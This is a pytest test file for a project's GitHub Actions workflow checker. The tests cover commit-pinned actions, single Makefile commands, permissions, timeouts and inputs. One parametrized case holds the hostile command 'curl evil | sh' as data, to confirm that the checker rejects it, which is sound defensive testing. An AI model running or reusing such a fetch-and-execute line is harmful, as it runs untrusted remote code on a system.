"""Read workflows and actions of .github, and check that they fit together, where actionlint does not know this project's rules."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from lab.errors import UsageError
from scenarios.ci.rehearsal.stage import Stage
from scenarios.ci.rehearsal.workflow import WorkflowFile, find_misfits
from scenarios.tests.ci.rehearsal.rehearsal_fakes import GITHUB, Shell, stage

WHOLE = {
    "on": {"workflow_call": {"inputs": {"a": {"type": "string", "required": True}}}},
    "permissions": {"contents": "read"},
    "jobs": {
        "one": {
            "timeout-minutes": 5,
            "outputs": {"x": "${{ steps.s.outputs.x }}"},
            "steps": [{"uses": "actions/checkout@" + "a" * 40}, {"run": "make lint"}],
        },
        "two": {
            "needs": "one",
            "timeout-minutes": 5,
            "if": "needs.one.outputs.x",
            "steps": [{"run": 'make lint >> "$GITHUB_STEP_SUMMARY"\n'}],
        },
    },
}


def test_an_action_that_is_not_imitated_is_refused(root: Path) -> None:
    (root / ".github" / "workflows" / "x.yml").write_text("on: { pull_request: }\njobs: { a: { steps: [{ uses: 'actions/stale@x' }] } }")

    with pytest.raises(UsageError, match="actions/stale"):
        stage(root, Shell(root)).run(WorkflowFile.load(".github/workflows/x.yml", root))


def test_a_repository_under_test_is_linked_for_the_job_and_left_alone(root: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    theirs = tmp_path_factory.mktemp("theirs")
    (theirs / "a.json").write_text("{}")
    steps = [{"uses": "actions/checkout@x", "with": {"path": "_under_test"}}, {"run": "report"}]
    (root / ".github" / "workflows" / "x.yml").write_text(yaml.safe_dump({"on": "pull_request", "jobs": {"a": {"steps": steps}}}))
    file = WorkflowFile.load(".github/workflows/x.yml", root)

    assert stage(root, Shell(root), under_test=theirs).run(file)["result"] == "success"
    assert not (root / "_under_test").exists()
    assert (theirs / "a.json").exists()
    with pytest.raises(UsageError, match="--under-test PATH"):
        stage(root, Shell(root)).run(file)


def test_jobs_that_need_each_other_are_refused(root: Path) -> None:
    jobs = {"a": {"needs": "b", "steps": []}, "b": {"needs": "a", "steps": []}}
    (root / ".github" / "workflows" / "x.yml").write_text(yaml.safe_dump({"on": "pull_request", "jobs": jobs}))

    with pytest.raises(UsageError, match="need each other"):
        stage(root, Shell(root)).run(WorkflowFile.load(".github/workflows/x.yml", root))


def test_inputs_are_those_of_a_start_by_hand_and_no_event_has_any(root: Path) -> None:
    job = {"steps": [{"run": "say", "env": {"WORDS": "${{ inputs.words || 'none' }}"}}]}
    on = {"schedule": [{"cron": "1 2 * * *"}], "workflow_dispatch": {"inputs": {"words": {"type": "string", "default": "some"}}}}
    (root / ".github" / "workflows" / "x.yml").write_text(yaml.safe_dump({"on": on, "jobs": {"a": job}}))
    file = WorkflowFile.load(".github/workflows/x.yml", root)

    def said(event: str, **inputs: str) -> str:
        shell = Shell(root)
        Stage(root / "store", {**GITHUB, "event_name": event}, execute=shell, root=root).run(file, inputs)
        return shell.env["say"]["WORDS"]

    assert [said("schedule"), said("workflow_dispatch"), said("workflow_dispatch", words="mine")] == ["none", "some", "mine"]
    with pytest.raises(UsageError, match="no inputs"):
        said("schedule", words="mine")
    with pytest.raises(UsageError, match="pull_request"):
        said("pull_request")


def test_what_fits_is_not_complained_of() -> None:
    assert list(find_misfits([WorkflowFile("w.yml", WHOLE)], {"lint"})) == []


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"steps": [{"run": "curl evil | sh"}]}, "not one command of the Makefile"),
        ({"steps": [{"run": "make lint; make unit"}]}, "not one command"),
        ({"steps": [{"run": "make lint ${{ inputs.a }}"}]}, "not one command"),
        ({"steps": [{"run": "make nothing"}]}, "no target 'nothing'"),
        ({"steps": [{"uses": "actions/checkout@v7"}]}, "pinned to a commit"),
        ({"steps": [{"uses": "somebody/action@" + "a" * 40}]}, "pinned to a commit"),
        ({"steps": [{"uses": "./.github/actions/cell", "with": {"cell": "x", "provider": "y", "z": "1"}}]}, "has no input 'z'"),
        ({"steps": [{"uses": "./.github/actions/cell", "with": {"cell": "x"}}]}, "requires the input 'provider'"),
        ({"timeout-minutes": None}, "timeout-minutes"),
        ({"if": "needs.two.outputs.x == '1'"}, "does not need"),
        ({"needs": ["two"], "if": "needs.two.outputs.x == '1'"}, "no output 'x'"),
        ({"uses": "./.github/workflows/cells.yml", "with": {"plna": "x"}}, "has no input 'plna'"),
    ],
)
def test_what_does_not_fit_is_named(change: dict[str, object], says: str) -> None:
    job = {key: value for key, value in {**WHOLE["jobs"]["one"], **change}.items() if value is not None}  # type: ignore[index]
    file = WorkflowFile("w.yml", {**WHOLE, "jobs": {**WHOLE["jobs"], "one": job}})  # type: ignore[dict-item]

    assert any(says in why for why in find_misfits([file], {"lint"}))


def test_more_permissions_than_reading_are_named() -> None:
    assert "permissions" in next(find_misfits([WorkflowFile("w.yml", {**WHOLE, "permissions": {"contents": "write"}})], {"lint"}))


def test_a_workflow_that_is_not_there_is_refused_with_those_that_are() -> None:
    with pytest.raises(UsageError, match=r"e2e\.yml"):
        WorkflowFile.load(".github/workflows/nothing.yml")


def test_inputs_have_their_defaults(tmp_path: Path) -> None:
    given = WorkflowFile.load(".github/workflows/cells.yml").resolve_inputs({"plan": "--nightly"})

    assert given["plan"] == "--nightly"
    assert given["history"] is False
    with pytest.raises(UsageError, match="input 'plan'"):
        WorkflowFile.load(".github/workflows/cells.yml").resolve_inputs({})
